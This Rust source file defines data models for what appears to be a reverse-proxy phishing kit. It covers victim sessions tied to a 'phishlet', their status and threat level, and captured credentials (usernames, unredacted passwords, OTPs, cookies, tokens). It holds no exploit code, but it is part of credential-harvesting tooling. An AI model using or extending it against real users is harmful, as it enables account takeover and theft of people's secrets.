use chrono::{DateTime, Utc};
use serde::{Deserialize, Deserializer, Serialize};
use std::collections::BTreeMap;

use crate::threat::ThreatTier;

/// Lifecycle state of a proxied victim session as reported by the backend.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SessionStatus {
    Active,
    Completed,
    Blocked,
    Expired,
}

impl SessionStatus {
    /// Terminal states never transition again once reached.
    pub fn is_terminal(&self) -> bool {
        !matches!(self, Self::Active)
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Active => "active",
            Self::Completed => "completed",
            Self::Blocked => "blocked",
            Self::Expired => "expired",
        }
    }
}

impl std::fmt::Display for SessionStatus {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A loosely-typed value inside a credential's `additionalData` map.
///
/// Closed over the JSON value kinds so that exporting and re-importing a
/// credential reproduces it exactly. Numbers keep their integer/float
/// identity and nested maps are key-ordered, which makes serialization
/// deterministic.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum AdditionalValue {
    Null,
    Bool(bool),
    Number(serde_json::Number),
    String(String),
    List(Vec<AdditionalValue>),
    Map(BTreeMap<String, AdditionalValue>),
}

impl From<&str> for AdditionalValue {
    fn from(value: &str) -> Self {
        Self::String(value.to_string())
    }
}

impl From<bool> for AdditionalValue {
    fn from(value: bool) -> Self {
        Self::Bool(value)
    }
}

impl From<i64> for AdditionalValue {
    fn from(value: i64) -> Self {
        Self::Number(value.into())
    }
}

/// Extra fields captured alongside a credential (cookies, tokens, form data).
pub type AdditionalData = BTreeMap<String, AdditionalValue>;

/// A credential captured by the proxy.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Credential {
    pub id: String,
    /// Owning session id. Lookup only; the credential may outlive the session
    /// in the store.
    pub session_id: String,
    /// Free-form kind tag, e.g. `"password"` or `"otp"`.
    #[serde(rename = "type")]
    pub kind: String,
    #[serde(default)]
    pub username: String,
    /// Raw secret value, never redacted in the model.
    #[serde(default)]
    pub password: String,
    pub captured_at: DateTime<Utc>,
    #[serde(default)]
    pub additional_data: AdditionalData,
}

/// A victim session flowing through the proxy.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Session {
    pub id: String,
    #[serde(default)]
    pub phishlet: String,
    #[serde(default)]
    pub ip: String,
    #[serde(default)]
    pub user_agent: String,
    #[serde(default)]
    pub country: String,
    pub start_time: DateTime<Utc>,
    pub last_activity: DateTime<Utc>,
    pub status: SessionStatus,
    #[serde(default)]
    pub request_count: u64,
    /// Always within `0..=100`; out-of-range wire values are clamped.
    #[serde(default, deserialize_with = "clamp_threat_level")]
    pub threat_level: u8,
    #[serde(default)]
    pub credentials: Vec<Credential>,
}

impl Session {
    pub fn threat_tier(&self) -> ThreatTier {
        ThreatTier::classify(self.threat_level)
    }

    pub fn is_active(&self) -> bool {
        self.status == SessionStatus::Active
    }
}

fn clamp_threat_level<'de, D>(deserializer: D) -> Result<u8, D::Error>
where
    D: Deserializer<'de>,
{
    let raw = f64::deserialize(deserializer)?;
    Ok(raw.clamp(0.0, 100.0).round() as u8)
}
